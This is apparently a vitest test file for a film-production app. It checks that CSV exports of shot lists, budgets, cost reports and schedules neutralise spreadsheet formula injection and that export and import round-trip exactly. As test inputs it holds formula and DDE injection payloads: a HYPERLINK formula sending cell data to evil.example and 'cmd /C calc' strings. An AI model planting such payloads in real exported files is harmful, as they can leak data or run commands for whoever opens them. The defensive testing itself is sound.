/**
 * CSV export neutralises every text cell a spreadsheet would evaluate (a leading =, +, -, @, tab or carriage
 * return) with a leading quote, import removes exactly that quote, and export -> import -> export is
 * byte-identical, including text that was typed with a leading quote or that looks like a negative number.
 */
import { describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { seedDemoBoard } from '../../shared/demo/index';
import {
  exportBudgetLines,
  exportCostReport,
  exportSchedule,
  exportShotList,
  importBudgetLines,
  importShotList,
  parseCsv,
  REPORT_COLUMNS,
} from '../../shared/csv/index';
import type { Board } from '../../shared/boards';
import {
  addAccount,
  addBanner,
  addBudgetLine,
  readBreakdown,
  readCostReport,
  readSchedule,
  readShots,
  setStoryboard,
  shotText,
  updateDay,
  updateShot,
} from '../../shared/model/index';

const TODAY = '2025-06-02';
function seeded(board: Board): Y.Doc {
  const doc = new Y.Doc();
  seedDemoBoard(board, doc, { today: TODAY });
  return doc;
}

/** What a spreadsheet would evaluate: a cell starting with = + - @, or with a tab or CR before the rest. */
const EVALUATED = /^[=+\-@\t\r]/;

/** Every cell of the file (header excluded) with its column name, as a spreadsheet reads it. */
function cells(csv: string): Array<{ column: string; value: string }> {
  const [header, ...rows] = parseCsv(csv);
  return rows.flatMap((row) => row.map((value, i) => ({ column: header![i]!, value })));
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '+1+cmd|" /C calc"!A0',
  '-5',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV formula neutralisation', () => {
  const breakdown = readBreakdown(seeded('breakdown'));
  const { scenes } = breakdown;

  it('writes no shot list text cell a spreadsheet would evaluate, lens and storyboard included', () => {
    const doc = seeded('shotlist');
    const [a, b, c] = readShots(doc);
    updateShot(doc, a!.id, { lens: '=1+1', description: HOSTILE[0]! });
    updateShot(doc, b!.id, { lens: '@A1', setup: HOSTILE[4]! });
    shotText(doc, c!.id, 'notes').insert(0, HOSTILE[5]!);
    setStoryboard(doc, a!.id, [HOSTILE[2]!, 'frame-2']);
    setStoryboard(doc, b!.id, ['=IMAGE("http://evil.example/x.png")']);
    const csv = exportShotList(doc, breakdown);
    const evaluated = cells(csv).filter((cell) => EVALUATED.test(cell.value));
    expect(evaluated).toEqual([]);
    const byColumn = (column: string) => cells(csv).filter((cell) => cell.column === column);
    expect(byColumn('lens').map((cell) => cell.value)).toEqual(expect.arrayContaining(["'=1+1", "'@A1"]));
    expect(byColumn('storyboard').map((cell) => cell.value)).toContain(`'${HOSTILE[2]}; frame-2`);
    expect(byColumn('storyboard').map((cell) => cell.value)).toContain(
      `'=IMAGE("http://evil.example/x.png")`,
    );
  });

  it('round-trips shot text byte for byte: a typed leading quote and a typed -5 survive', () => {
    const doc = seeded('shotlist');
    const [a, b, c] = readShots(doc);
    updateShot(doc, a!.id, { lens: "'Scope 40mm", description: '-5' });
    updateShot(doc, b!.id, { lens: '+2 diopter', setup: "''twice" });
    shotText(doc, c!.id, 'notes').insert(0, HOSTILE[3]!);
    setStoryboard(doc, c!.id, ["'quoted-ref", '+ref']);
    const csv = exportShotList(doc, breakdown);
    const copy = new Y.Doc();
    importShotList(copy, csv, breakdown);
    const read = new Map(readShots(copy).map((s) => [s.id, s]));
    expect(read.get(a!.id)).toMatchObject({ lens: "'Scope 40mm", description: '-5' });
    expect(read.get(b!.id)).toMatchObject({ lens: '+2 diopter', setup: "''twice" });
    expect(read.get(c!.id)!.notes).toContain(HOSTILE[3]);
    expect(read.get(c!.id)!.storyboard).toEqual(["'quoted-ref", '+ref']);
    expect(readShots(copy)).toEqual(readShots(doc));
    expect(exportShotList(copy, breakdown)).toBe(csv);
  });

  it('round-trips budget lines with hostile names and descriptions; amounts stay numbers', () => {
    const doc = seeded('costreport');
    const accountId = addAccount(doc, { code: '-9100', name: HOSTILE[1]!, line: 'BTL', category: '@Misc' });
    addBudgetLine(doc, {
      accountId,
      description: "'Scope 40mm rental",
      amount: 2,
      units: 'day',
      multiplier: 1,
      rate: 12_550,
      fringeBp: 0,
    });
    const { id: _id, ...first } = readCostReport(doc).lines[0]!;
    addBudgetLine(doc, { ...first, description: HOSTILE[0]! });
    const csv = exportBudgetLines(doc);
    expect(cells(csv).filter((cell) => EVALUATED.test(cell.value))).toEqual([]);
    const copy = new Y.Doc();
    importBudgetLines(copy, csv);
    const descriptions = readCostReport(copy).lines.map((l) => l.description);
    expect(descriptions).toContain("'Scope 40mm rental");
    expect(descriptions).toContain(HOSTILE[0]);
    expect(readCostReport(copy).accounts.find((a) => a.code === '-9100')).toMatchObject({
      name: HOSTILE[1],
      category: '@Misc',
    });
    expect(exportBudgetLines(copy)).toBe(csv);
  });

  it('the cost report neutralises names and categories but keeps negative amounts as numbers', () => {
    const doc = seeded('costreport');
    addAccount(doc, { code: '9200', name: HOSTILE[0]!, line: 'BTL', category: '-Overages' });
    const csv = exportCostReport(doc, { from: '2025-05-01', to: TODAY });
    const all = cells(csv);
    const text = all.filter((cell) => !MONEY_COLUMNS.has(cell.column));
    expect(text.filter((cell) => EVALUATED.test(cell.value))).toEqual([]);
    expect(all).toContainEqual({ column: 'name', value: `'${HOSTILE[0]}` });
    expect(all).toContainEqual({ column: 'category', value: "'-Overages" });
    // Money columns are numbers a spreadsheet should add up, negative ones included.
    const money = all.filter((cell) => MONEY_COLUMNS.has(cell.column) && cell.value !== '');
    expect(money.length).toBeGreaterThan(0);
    for (const cell of money) expect(cell.value).toMatch(/^-?\d+(\.\d+)?$/);
  });

  it('the schedule neutralises banners, day notes and log text', () => {
    const doc = seeded('schedule');
    const day = readSchedule(doc).days[0]!;
    addBanner(doc, { text: HOSTILE[0]!, dayId: day.id });
    updateDay(doc, day.id, { notes: HOSTILE[3]! });
    const csv = exportSchedule(doc, scenes, breakdown.cast);
    expect(cells(csv).filter((cell) => EVALUATED.test(cell.value))).toEqual([]);
    expect(cells(csv)).toContainEqual({ column: 'text', value: `'${HOSTILE[0]}` });
    expect(cells(csv)).toContainEqual({ column: 'text', value: `'${HOSTILE[3]}` });
  });
});

const MONEY_COLUMNS = new Set<string>(
  REPORT_COLUMNS.filter((c) =>
    [
      'budget',
      'actualThisPeriod',
      'actualToDate',
      'committed',
      'estimateToComplete',
      'estimateAtFinalCost',
      'variance',
      'percentSpent',
    ].includes(c),
  ),
);
